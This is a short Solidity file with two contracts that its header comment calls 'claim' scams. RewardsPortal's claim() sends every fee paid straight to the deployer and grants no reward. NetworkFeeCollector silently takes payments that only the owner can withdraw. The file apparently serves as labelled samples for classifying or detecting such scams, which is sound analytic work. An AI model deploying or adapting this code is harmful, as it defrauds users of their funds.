// SPDX-License-Identifier: MIT
// Family B payable "claim" scams: a portal whose claim() forwards the fee to its owner at
// once, and a fallback-only "network fee" collector the owner empties later.
pragma solidity ^0.8.24;

contract RewardsPortal {
    address payable private immutable owner;
    mapping(address => uint256) public claimed;

    event RewardClaimed(address indexed user, uint256 fee);

    constructor() {
        owner = payable(msg.sender);
    }

    function claim() external payable {
        require(msg.value > 0, "fee");
        claimed[msg.sender] += msg.value;
        (bool ok, ) = owner.call{value: msg.value}("");
        require(ok, "fwd");
        emit RewardClaimed(msg.sender, msg.value);
    }
}

contract NetworkFeeCollector {
    address payable private immutable owner;

    constructor() {
        owner = payable(msg.sender);
    }

    fallback() external payable {}

    receive() external payable {}

    function collect() external {
        require(msg.sender == owner, "no");
        (bool ok, ) = owner.call{value: address(this).balance}("");
        require(ok, "fwd");
    }
}
